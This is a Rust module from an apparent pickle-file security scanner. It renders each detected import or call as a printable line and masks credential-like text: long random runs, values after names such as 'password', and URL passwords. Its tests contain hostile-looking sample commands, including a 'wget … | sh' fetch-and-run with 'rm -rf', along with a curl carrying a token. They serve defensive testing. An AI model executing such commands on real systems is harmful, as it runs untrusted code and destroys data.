//! What is said about a use of a name.
//!
//! In: the use, with whatever hostile or secret text the pickle gives it. Out:
//! one printable line of bounded length, in which nothing that looks like a
//! credential is left.

use crate::blob::{Opcode, Subject, Use};
use crate::finding::{Secret, printable};

/// Longest text of arguments, or of a name, in characters.
const SHOWN: usize = 120;

/// Shortest run of letters and digits that is taken for a secret.
const RUN: usize = 16;

/// Words whose value is a secret whatever it looks like.
const NAMES: [&str; 7] = [
    "password", "passwd", "pwd", "token", "secret", "apikey", "api_key",
];

/// `calls os.system('id') at byte 12 (REDUCE)`.
pub(super) fn line(of: &Use) -> String {
    let subject = subject(&of.subject);
    let arguments = shown(&String::from_utf8_lossy(of.shown.reveal()));
    let what = match of.call {
        None => format!("imports {subject}"),
        Some(Opcode::Build) if of.subject == Subject::Hooked => {
            "gives an object a method that unpickling calls".to_owned()
        }
        Some(Opcode::Build) => format!("changes {subject} by {arguments}"),
        Some(Opcode::Append) => {
            format!("calls a method of an object of {subject} for its elements")
        }
        Some(Opcode::NewObj | Opcode::NewObjEx) if arguments.is_empty() => {
            format!("makes an object of {subject}")
        }
        Some(_) => format!("calls {subject}({arguments})"),
    };
    let opcode = of
        .call
        .map_or(String::new(), |call| format!(" ({})", call.name()));
    let inside = of.inside.map_or(String::new(), |encoding| {
        let written = if encoding == "bytes" {
            "bytes"
        } else {
            encoding
        };
        format!(", in a pickle that is itself a string ({written})")
    });
    let times = if of.count > 1 {
        format!(", {} times", of.count)
    } else {
        String::new()
    };
    format!("{what} at byte {}{opcode}{inside}{times}", of.offset)
}

fn subject(subject: &Subject) -> String {
    match subject {
        Subject::Name(module, name) => {
            let part = |part: &Option<String>| part.as_deref().map_or("?".to_owned(), cut);
            match name.as_deref() {
                Some("") => part(module),
                _ => format!("{}.{}", part(module), part(name)),
            }
        }
        Subject::Result(text) => format!(
            "the result of {}",
            shown(&String::from_utf8_lossy(text.reveal()))
        ),
        Subject::Extension(code) => format!("number {code} of the registry of extensions"),
        Subject::Persistent => "what the loader makes of a persistent id".to_owned(),
        Subject::Unknown | Subject::Hooked => "something that the stream does not tell".to_owned(),
    }
}

fn shown(text: &str) -> String {
    cut(&masked(text))
}

fn cut(text: &str) -> String {
    let mut text = printable(text);
    if let Some((end, _)) = text.char_indices().nth(SHOWN) {
        text.truncate(end);
        text.push('…');
    }
    text
}

/// Every run that could be a credential by its length and mix, every value of a
/// telling name, and every password in a URL by its mask.
fn masked(text: &str) -> String {
    let mut out = String::new();
    let mut rest = text;
    let mut telling = false;
    while let Some(first) = rest.chars().next() {
        let end = rest.find(|c| !in_run(c)).unwrap_or(rest.len());
        if end == 0 {
            // The value follows its name, perhaps behind signs and quotes.
            telling &= matches!(first, '=' | ':' | '\'' | '"' | ' ' | ',' | '-');
            out.push(first);
            rest = &rest[first.len_utf8()..];
            continue;
        }
        let (run, after) = rest.split_at(end);
        let userinfo = out.ends_with(':') && after.starts_with('@');
        if telling || userinfo || is_random(run) {
            out.push_str(&Secret::new(run.as_bytes()).mask());
        } else {
            out.push_str(run);
        }
        let lower = run.to_ascii_lowercase();
        telling = NAMES.iter().any(|name| lower.ends_with(name));
        rest = after;
    }
    out
}

fn in_run(c: char) -> bool {
    c.is_alphanumeric() || matches!(c, '_' | '+' | '~')
}

fn is_random(run: &str) -> bool {
    let digits = run.bytes().filter(u8::is_ascii_digit).count();
    run.len() >= RUN && digits > 0 && digits < run.len()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn secrets_are_masked() {
        let token = format!("hf_{}", "aB3d".repeat(8));
        let text = format!("'curl -H {token} https://u:hunter2@x.org', password='swordfish'");
        let shown = masked(&text);
        for secret in ["aB3d", "hunter2", "swordfish"] {
            assert!(!shown.contains(secret), "{shown}");
        }
        assert!(
            shown.contains("curl -H") && shown.contains("x.org"),
            "{shown}"
        );
    }

    #[test]
    fn commands_stay_readable() {
        let command = "'wget http://example.org/a/b.sh | sh -c id; rm -rf /tmp/x'";
        assert_eq!(masked(command), command);
        assert!(shown(&"a ".repeat(200)).chars().count() <= SHOWN + 1);
    }
}
